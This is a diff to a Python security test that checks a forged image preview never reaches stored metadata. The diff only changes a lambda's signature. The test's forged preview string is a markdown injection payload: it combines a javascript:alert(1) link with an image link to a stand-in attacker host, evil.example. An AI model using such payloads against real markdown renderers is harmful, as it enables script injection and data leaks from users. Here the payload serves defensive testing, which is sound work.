@@ -334,7 +334,7 @@ def test_a_forged_preview_never_reaches_the_metadata(engine, s3, secrets):
         """
         def attack(attributes, temp_dir):
             worker = sys.modules["__main__"]
-            worker.preview = lambda fd: "AAAA)](javascript:alert(1)) ![x](http://evil.example/"
+            worker.preview = lambda *_: "AAAA)](javascript:alert(1)) ![x](http://evil.example/"
             with open(os.path.join(temp_dir, "card.jpg"), "wb") as f:
                 f.write(b"\\xff\\xd8\\xff\\xe0" + bytes(64))
             return {"image": "card.jpg"}
